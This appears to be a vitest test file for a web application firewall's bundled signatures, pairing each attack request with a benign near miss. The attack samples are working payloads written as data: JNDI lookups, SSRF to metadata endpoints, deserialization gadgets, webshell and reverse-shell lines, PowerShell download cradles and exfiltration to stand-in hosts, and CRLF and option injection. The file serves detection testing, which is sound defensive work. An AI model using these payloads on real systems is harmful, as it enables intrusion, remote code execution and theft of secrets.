/**
 * The exact signatures for the attack families of issue 14: each fires on its attack and stays quiet
 * on the benign value closest to it (the near miss a narrower rule would be tempted to catch).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, JSON_HEADERS, bundledGate, form, header, hitsOf, inspectedHitsOf, json, q, testRuleCases, xml, type RuleCase } from './bundled-requests.js';

let gate: CompiledSignatureGate;
beforeAll(async () => {
  gate = await bundledGate();
});
const hits = (spec: RequestSpec): Array<[number, string]> => hitsOf(gate, spec);

// [sid, effect, attack, benign near miss]
const CASES: RuleCase[] = [
  [9000804, 'block', 'a nested-lookup JNDI in a header', header('X-Api-Version', '${${lower:j}${upper:n}di:ldap://x.test/a}'), header('X-Template', 'Hello ${user.name}, see ${env.HOME}')],
  [9000804, 'block', 'a percent-encoded JNDI in a form', form('q=%24%7Bjndi%3Aldap%3A%2F%2Fx.test%2Fa%7D'), form('q=%24%7Bprice%7D+per+month')],
  // rev 4: a nested lookup is one inside an open `${`; VS Code's `${env:HOME}/.local/bin:${env:PATH}` (two closed variables, blind benign set 8) nests none.
  [9000801, 'suspicious', 'a lookup nested in an open one', json('{"name":"${${env:NaN:-j}ndi:ldap://x.test/a}"}'), json('{"terminal.integrated.env.linux":{"PATH":"${env:HOME}/.local/bin:${env:PATH}"}}')],
  [9000801, 'suspicious', 'a lookup obfuscated with default values', json('{"name":"${${::-j}${::-n}${::-d}${::-i}:ldap://x.test/a}"}'), json('{"python.defaultInterpreterPath":"${workspaceFolder}/.venv/bin/python","cwd":"${env:HOME}"}')],
  // rev 2: a lookup's prefix is followed by its colon; a CloudFormation parameter `${Env}` in a form body (aws-cli's CreateStack) names none.
  [9000803, 'suspicious', 'a percent-encoded env lookup in a form', form('q=%24%7Benv%3AAWS_SECRET_ACCESS_KEY%7D'), form('TemplateBody=%7B%22Fn%3A%3ASub%22%3A%22orders-%24%7BEnv%7D%22%7D')],
  [9000805, 'block', 'a JNDI lookup in the decoded URI', q('x=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx.test%2Fo%7D'), q('tpl=%24%7BmoduleName%7D%3F%24%7BDate.now()%7D')],
  [9000504, 'block', 'a metadata address in IPv6-mapped hex', q('url=http%3A%2F%2F%5B%3A%3Affff%3Aa9fe%3Aa9fe%5D%2Flatest%2Fmeta-data%2F'), q('q=what+is+169.254.169.254')],
  [9000504, 'block', 'the ECS task metadata address', json('{"hook":"http://169.254.170.2/v2/credentials/"}'), json('{"hook":"http://169.254.170.20/status"}')],
  [9000505, 'block', 'the Docker API on localhost', q('url=http%3A%2F%2F127.0.0.1%3A2375%2Fcontainers%2Fjson'), q('url=http%3A%2F%2F127.0.0.1%3A3000%2Fcallback')],
  [9000506, 'block', 'a cluster service in a JSON body', json('{"avatar":"http://kubernetes.default.svc/api/v1/secrets"}'), json('{"avatar":"https://cdn.example.com/kubernetes.default.png"}')],
  [9001006, 'block', 'a base64 Java object', form('state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'), form('state=xrO0ABXzzq1')],
  [9001006, 'block', 'a node-serialize function', json('{"u":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'), json('{"u":"ND_FUNC is a constant"}')],
  [9001007, 'block', 'a fastjson @type gadget', json('{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.test/a"}}'), json('{"@type":"Person","name":"Ada"}')],
  [9001007, 'block', 'a Jackson wrapper-array logback JDBC gadget', json('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://x.test/a.sql\'"}]'), json('["ch.qos.logback.core.db", "a package name in a list"]')],
  [9001008, 'suspicious', 'a reflection class name', q('c=java.lang.Runtime'), q('q=java+runtime+environment')],
  [9001305, 'block', 'OGNL member access', header('Content-Type', "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"), header('X-Note', 'member access (see #_docs)')],
  [9001306, 'block', 'SpEL reaching Runtime', q('sort=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D'), q('q=T(n)+%3D+2T(n%2F2)+%2B+n')],
  [9001307, 'block', 'mainModule.require', json('{"n":"process.mainModule.require(\'child_process\').execSync(\'id\')"}'), json('{"n":"module.require is documented in the API"}')],
  [9001308, 'suspicious', 'child_process required and called', form('code=require(%27child_process%27).exec(%27id%27)'), form('q=is+child_process+safe')],
  [9001309, 'block', '__proto__ as a query parameter name', q('__proto__[isAdmin]=true'), q('q=__proto__+vs+prototype')],
  [9001310, 'block', 'a __proto__ key in a JSON body', json('{"user":{"__proto__":{"isAdmin":true}}}'), json('{"doc":"set {\\"__proto__\\": {}} to see it"}')],
  [9001310, 'block', 'constructor[prototype] in a form', form('constructor%5Bprototype%5D%5Bx%5D=1'), form('q=constructor+prototype')],
  [9001311, 'block', 'a PHP webshell one-liner', form('c=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E'), form('c=%3C%3Fphp+echo+htmlspecialchars(%24name)%3B+%3F%3E')],
  [9001312, 'suspicious', 'a PHP ini directive', q('x=-d+allow_url_include%3D1'), q('q=allow+url+include+php')],
  [9001313, 'block', 'JSFuck', json('{"x":"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]"}'), json('{"x":"[[], [1, 2]]"}')],
  [9001314, 'suspicious', 'a template-literal eval', json('{"x":"eval`process.exit()`"}'), json('{"x":"see `eval` docs"}')],
  [9001315, 'block', 'a PHP variable function through input', form('x=%24_GET%5B%27f%27%5D(%24_GET%5B%27a%27%5D)'), form('x=%24_GET%5B%27f%27%5D')],
  [9000306, 'suspicious', 'a command substitution at the start of a value', q('host=127.0.0.1%24(id)'), q('price=%2450+(approx)')],
  [9000307, 'block', 'PowerShell -EncodedCommand', q('x=%7Cpowershell+-nop+-enc+SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0'), q('q=powershell+-enc+parameter+meaning')],
  // rev 2: Invoke-WebRequest only piped into (an exfiltration: `… | Out-String | Invoke-WebRequest -Method Post`) or piped on to IEX; a runbook's download to a file (blind benign set 8's Notion code block) names it alone.
  [9000308, 'suspicious', 'command output piped into Invoke-WebRequest', form('arg=x%3B+Get-ChildItem+Env%3A+%7C+Out-String+%7C+Invoke-WebRequest+-Method+Post+-Uri+http%3A%2F%2F203.0.113.7%2F'), json('{"children":[{"type":"code","code":{"language":"powershell","rich_text":[{"text":{"content":"Invoke-WebRequest -Uri https://downloads.example.com/agent.msi -OutFile $env:TEMP\\\\agent.msi"}}]}}]}')],
  [9000308, 'suspicious', 'Invoke-WebRequest piped on to iex', q('c=Invoke-WebRequest%20http%3A%2F%2Fx.test%2Fa.ps1%20%7C%20iex'), q('q=Invoke-WebRequest%20-OutFile%20vs%20Start-BitsTransfer')],
  [9000308, 'suspicious', 'a PowerShell download cradle', form('x=IEX(New-Object+Net.WebClient).DownloadString(%27http%3A%2F%2Fx.test%27)'), form('x=web+client+download+string')],
  [9000309, 'suspicious', 'caret-escaped cmd', q('ip=1%26w%5Eh%5Eo%5Ea%5Em%5Ei'), form('new_password=xE%5ER%5EA9')],
  [9000310, 'suspicious', 'a Perl reverse shell', q('x=perl+-MIO+-e+%27%24c%3Dnew+IO%3A%3ASocket%3A%3AINET(PeerAddr%2C%221.2.3.4%3A80%22)%3BSTDIN-%3Efdopen(%24c%2Cr)%27'), q('q=IO%3A%3ASocket%3A%3AINET+tutorial')],
  [9001208, 'block', 'a line break spelled %%0a0a (for decoders that drop the stray %) then Location', { url: '/%%0a0aLocation:%20http://x.test' }, { url: '/reports/100%%0a0aq3' }],
  [9001208, 'block', 'CRLF then Set-Cookie in the URI', { url: '/lang/en%0d%0aSet-Cookie:%20sid=1' }, { url: '/notes?text=line1%0d%0aline2' }],
  [9001209, 'block', 'encoded CRLF then Set-Cookie in a form', form('next=%2F%250d%250aSet-Cookie%3A+sid%3D1'), form('msg=Hi%0D%0ALocation%3A+Berlin')],
  [9001210, 'block', 'a meta Set-Cookie', form('bio=%3Cmeta+http-equiv%3D%22Set-Cookie%22+content%3D%22sid%3D1%22%3E'), form('bio=%3Cmeta+http-equiv%3D%22refresh%22+content%3D%225%22%3E')],
  [9001404, 'block', 'a .git/config probe', { url: '/app/.git/config' }, { url: '/docs/git/config' }],
  [9001404, 'block', 'a .env probe', { url: '/.env' }, { url: '/files?name=~/Projects/app/.env.example' }],
  [9001405, 'block', 'a backup of wp-config', { url: '/wp-config.php.bak' }, { url: '/blog/backup-strategies.html' }],
  [9001405, 'block', 'a database dump', { url: '/backup.sql.gz' }, { url: '/downloads/release-1.2.tar.gz' }],
  // rev 2026-12-04: the families' misses, as shapes rather than the generator's values
  [9000330, 'block', 'a caret-broken cmd word after a line break', form('next=%0asys%5Et%5Eeminfo'), q('path=enc%3Aa_PtApGrQJc%7C%5EZLnBRACNz%7E%5D%5ELyE')],
  [9000330, 'block', 'a caret-broken cmd word after &&', json('{"ip":"1 && w^h^o^a^m^i"}'), form('current_password=M%22JZ%26%5EhpZx%5Eu')],
  [9000311, 'block', 'a brace-expanded command in a substitution', q('host=x%60%7Bls%2C-la%2C%2F%7D%60'), json('{"doc":"the pattern `{a,b/c}/d` expands to two patterns"}')],
  [9000311, 'block', 'a here-string fed to bash', json('{"x":"bash<<<\\"wh``oami\\""}'), json('{"doc":"a here-string <<< feeds a word to a command"}')],
  [9000311, 'block', 'reversed text piped to sh', form("f=%24(rev%3C%3C%3C'di'%7Csh)"), form('q=rev+%3C%3C%3C+usage')],
  [9001006, 'block', 'a percent-encoded BinaryFormatter header', form('state=AAEAAAD%2F%2F%2F%2F%2FAQAAAAAAAAAMAgAAAF9TeXN0ZW0'), form('state=AAEAAAD%2F%2Fx')],
  [9001009, 'block', 'a view state naming System.Diagnostics.Process', form('__VIEWSTATE=%2FwEyU3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3MgaWQ%3D'), form('__VIEWSTATE=%2FwEPDwUKLTEyMzQ1Njc4OWRkZA%3D%3D')],
  [9001009, 'block', 'a Ruby Marshal blob naming Gem::Installer', q('id=BAhvOhVHZW06Okluc3RhbGxlcgY6CkBpbyI'), q('id=BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiJTBh')],
  [9001010, 'block', 'a Json.NET $type gadget', json('{"a":{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}}'), json('{"$type":"MyApp.Models.Order, MyApp","id":1}')],
  [9001010, 'block', 'a javaClass key naming ProcessBuilder', json('{"x":{"javaClass":"java.lang.ProcessBuilder"}}'), json('{"class":"java.lang.String"}')],
  [9001011, 'block', 'a gadget class as the whole value', q('c=org.codehaus.groovy.runtime.MethodClosure'), q('q=how+does+org.codehaus.groovy.runtime.MethodClosure+work')],
  [9001211, 'block', 'a session id set through a query value', q('redirect=PHPSESSID%3Dattacker'), q('next=%2Fviewtopic.php%3Ff%3D1%26sid%3Dfd882280243e')],
  [9001211, 'block', 'a session id set through a path segment', { url: '/page/JSESSIONID=abc123' }, { url: '/page/session/abc123' }],
  [9001212, 'block', 'a session id set through a form value', form('url=session_id%3Ddeadbeef'), form('session_id=deadbeef&x=1')],
  [9001213, 'suspicious', 'Set-Cookie attributes inside a Cookie header', header('Cookie', 'theme=dark; JSESSIONID=attacker; Domain=.example.com; Path=/'), header('Cookie', 'theme=dark; JSESSIONID=A3DC6B99; OptanonConsent=landingPath%3DNotLandingPage')],
  [9001214, 'block', 'a document.cookie assignment', form('c=document.cookie%3D%22sid%3Dfixed%3B+path%3D%2F%22'), form('body=Tip%3A+document.cookie+is+empty+because+the+cookie+is+HttpOnly')],
  [9001316, 'block', 'an EL scope lookup', q('x=%24%7BsessionScope%7D'), q('tpl=%24%7Bsession%7D')],
  [9001309, 'block', 'a JSON __proto__ key in a query name', { url: '/api/items?%7B%22user%22:%7B%22__proto__%22:%7B%22x%22:1%7D%7D%7D=1' }, q('q=%22__proto__%22+key')],
  [9001310, 'block', 'a top-level constructor.prototype key', json('{"constructor":{"prototype":{"isAdmin":true}}}'), json('{"constructor":"Ada Lovelace"}')],
  [9001310, 'block', '__proto__ path as a form value', form('url=__proto__.role%3D1'), form('q=__proto__+keys+are+removed')],
  [9001406, 'block', 'a CI manifest in the web root', { url: '/.gitlab-ci.yml' }, { url: '/.well-known/security.txt' }],
  [9001406, 'block', 'a config file in a hidden directory', { url: '/app/.circleci/config.yml' }, { url: '/.auth/login/aad' }],
  [9001406, 'block', 'a hidden file', { url: '/static/.gitconfig' }, { url: '/.netlify/functions/contact' }],
  [9001406, 'block', 'a framework debug console', { url: '/app/telescope/requests' }, { url: '/search?q=telescope+requests' }],
  [9001406, 'block', 'an application log', { url: '/api/logs/error.log' }, { url: '/logs/_search' }],
  [9001406, 'block', 'an editor backup copy', { url: '/public/db~' }, { url: '/robots.txt' }],
  [9001406, 'block', 'a SQL dump', { url: '/static/_dump.sql' }, { url: '/docs/sql-tutorial' }],
  [9000521, 'block', 'a container-internal service on its port in a form', form('template=https%3A%2F%2Fvault%3A8200%2Fv1%2Fsecret'), form('template=https%3A%2F%2Fvault.example.com%2Fdocs')],
  [9000521, 'block', 'host.docker.internal as a URL in JSON', json('{"hook":"http://host.docker.internal/pods"}'), json('{"doc":"host.docker.internal resolves to the host"}')],
  [9000520, 'block', 'a container-internal service on its port in the URI', q('url=http%3A%2F%2Fconsul%3A8500%2Fv1%2Fkv%2F%3Frecurse'), header('Referer', 'http://elasticsearch:9200/app/kibana')],
  [9001214, 'block', 'a document.cookie assignment of a session id', json('{"x":"document.cookie=\\"JSESSIONID=attacker; path=/\\""}'), form('code=document.cookie+%3D+%22username%3DJohn+Doe%22')],
  [9001316, 'block', 'an EL applicationScope read', json('{"q":"${applicationScope}"}'), json('{"code":"`${param[0]} ${header}`"}')],
  [9001310, 'block', 'constructor.prototype as a form value', form('x=constructor.prototype.isAdmin%3D1'), form('text=Use+obj.__proto__.x+carefully')],
  [9001215, 'block', 'a U+560A/U+560D CRLF then a header', form('id=293%E5%98%8A%E5%98%8DX-Forwarded-For:1'), form('q=%E5%98%8A%E5%98%8D')],
  [9001330, 'block', 'a PHP tag including a remote URL', json('{"f":"<?php include(\'https://x.test/shell\'); ?>"}'), json('{"body":"`<?php include($_GET[\'page\'] . \'.php\'); ?>` is unsafe"}')],
];

describe('bundled rules for the issue-14 attack families', () => {
  testRuleCases(CASES, hits);

  it('9001101 reads tool names as words: a WordPress site called hydrant is no scanner', () => {
    expect(hits(header('User-Agent', 'WordPress/6.5.2; https://bogus-hydrant.us')).map(([s]) => s)).not.toContain(9001101);
    expect(hits(header('User-Agent', 'Mozilla/5.0 (Hydra)')).map(([s]) => s)).toContain(9001101);
  });
});

// Issue 18: exploit classes and known-vulnerable endpoints. Written from what each vulnerability needs,
// not from the exploit generator's templates; [sid, effect, attack, benign near miss].
const xmlAt = (url: string, body: string): RequestSpec => xml(body, url);
const EXPLOIT_CASES: RuleCase[] = [
  [9001006, 'block', 'a base64 Java object as an XML element text', xmlAt('/rpc', '<value><serializable>rO0ABXNyABNqYXZhLnV0aWwuQXJyYXlMaXN0</serializable></value>'), xmlAt('/rpc', '<value><string>rO0 is not base64 here</string></value>')],
  [9001012, 'block', 'an XMLDecoder document starting a process', xmlAt('/svc', '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>'), xmlAt('/svc', '<java class="java.beans.XMLDecoder"><object class="java.util.ArrayList"><void method="add"><string>a</string></void></object></java>')],
  [9000507, 'block', 'a remote WAR handed to a deployer', q('action=invoke&arg0=http%3A%2F%2Fx.test%2Fapp.war'), q('download=https%3A%2F%2Fx.test%2Fsoftware.html&doc=war.pdf')],
  [9000312, 'suspicious', 'a separator and a command at the start of a URI value', q('host=%3Bwget+http%3A%2F%2Fx.test%2Fa'), q('q=%3B+semicolons+in+prose&sep=%7C')],
  [9000313, 'block', 'zip option injection in a file name', q('cmd=archive&name=-TmTT%3Dsh+-c+id+a.zip'), q('name=-T-shirt+sizes&title=--draft--')],
  [9000313, 'block', 'tar checkpoint action in a form value', form('opts=--checkpoint-action%3Dexec%3Dsh+x.sh'), form('opts=--checkpoint%3D100')],
  [9001317, 'block', 'a PHP function as a Symfony _controller', { url: '/_fragment?_path=_controller%3Dsystem%26command%3Did&_hash=x' }, { url: '/_fragment?_path=_controller%3DApp%5CController%5CHome%3A%3Aindex&_hash=x' }],
  [9001318, 'block', 'a parameter name walking into the application config', q('bootstrapStatusProvider.applicationConfig.setupComplete=false'), q('status=setupComplete&config.theme=dark')],
  [9001318, 'block', 'class.module.classLoader in a form', form('class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'), form('class=module&loader=lazy')],
  [9001319, 'block', 'an actuator env write of logging.config', { method: 'POST', url: '/actuator/env', headers: JSON_HEADERS, body: '{"name":"logging.config","value":"http://x.test/l.xml"}' }, { method: 'POST', url: '/actuator/env', headers: JSON_HEADERS, body: '{"name":"app.greeting","value":"hi"}' }],
  [9001501, 'block', 'the Nacos server user agent on the auth API', { method: 'POST', url: '/nacos/v1/auth/users?username=a&password=b', headers: [['Host', 'x.test'], ['User-Agent', 'Nacos-Server']] }, { method: 'POST', url: '/nacos/v1/auth/users?username=a&password=b', headers: BROWSER }],
  [9001502, 'block', 'the Joomla API with public=true', { url: '/api/index.php/v1/config/application?public=true' }, { url: '/api/index.php/v1/articles?page=2' }],
  [9001503, 'block', 'a ProxyLogon back-end cookie', header('Cookie', 'X-BEResource=a]@x.test:444/autodiscover/autodiscover.xml?#~1942062522'), header('Cookie', 'X-BackEndCookie=S-1-5-21=abc; X-OWA-CANARY=x')],
  [9001504, 'block', 'PHPUnit eval-stdin.php', { method: 'POST', url: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', body: '<?php echo 1;' }, { url: '/docs/phpunit/getting-started.html' }],
  [9001505, 'block', 'a Tomcat PUT of a JSP with a trailing slash', { method: 'PUT', url: '/upload/x.jsp/', body: '<% out.println(1); %>' }, { method: 'PUT', url: '/files/x.json', body: '{}' }],
  [9001506, 'block', 'the Tomcat manager with tomcat/tomcat', { url: '/manager/text/list', headers: [...BROWSER, ['Authorization', 'Basic dG9tY2F0OnRvbWNhdA==']] }, { url: '/manager/text/list', headers: [...BROWSER, ['Authorization', 'Basic ZGVwbG95ZXI6cXVpZXQtcml2ZXItNzc=']] }],
];

describe('bundled rules for exploit classes and known-vulnerable endpoints (issue 18)', () => {
  testRuleCases(EXPLOIT_CASES, hits);
});

// 9001014 reads body values as their parser does (decoded views): the request goes through the real inspector.
describe('9001014: serialized-object magic in a body value spelled otherwise', () => {
  const post = (contentType: string, body: string): Array<[number, string]> =>
    inspectedHitsOf(gate, { method: 'POST', url: '/rpc', headers: [['Host', 'x.test'], ['Content-Type', contentType]], body });
  const refs = (text: string): string => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
  const OBJECT = 'rO0ABXNyABNqYXZhLnV0aWwuQXJyYXlMaXN0';

  it('blocks a base64 Java object in XML text spelled with character references, which 9001006 (bytes as sent) misses', () => {
    const found = post('text/xml', `<value><serializable>${refs(OBJECT)}</serializable></value>`);
    expect(found).toContainEqual([9001014, 'block']);
    expect(found.map(([s]) => s)).not.toContain(9001006);
  });

  it('blocks one in a JSON value written with \\u escapes', () => {
    expect(post('application/json', `{"state":"\\u0072${OBJECT.slice(1)}"}`)).toContainEqual([9001014, 'block']);
  });

  it('stays quiet on the near misses: the magic not at a value\'s start, or not followed by base64', () => {
    expect(post('text/xml', `<value><string>${refs('rO0 is not base64 here')}</string></value>`).map(([s]) => s)).not.toContain(9001014);
    expect(post('application/json', '{"note":"\\u0078rO0ABXNyABNqYXZh"}').map(([s]) => s)).not.toContain(9001014);
  });
});
